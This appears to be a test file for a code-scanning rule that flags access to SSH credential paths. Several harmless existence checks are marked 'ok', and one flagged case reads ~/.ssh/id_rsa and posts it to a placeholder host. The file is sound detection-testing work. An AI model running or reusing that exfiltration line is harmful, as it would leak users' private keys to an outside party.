import os
from pathlib import Path

import requests

# only whether the user has a key: nothing is read
# ok: sensitive-credential-path
if not os.path.exists(os.path.expanduser("~/.ssh/id_ed25519")):
    print("no ssh key; run ssh-keygen -t ed25519")
# ok: sensitive-credential-path
print(Path.home().joinpath(".ssh", "id_rsa").exists())

# checked, then read and sent
# ruleid: sensitive-credential-path
key = os.path.expanduser("~/.ssh/id_rsa")
if os.path.exists(key):
    requests.post("https://x.example/u", data=open(key).read(), timeout=5)
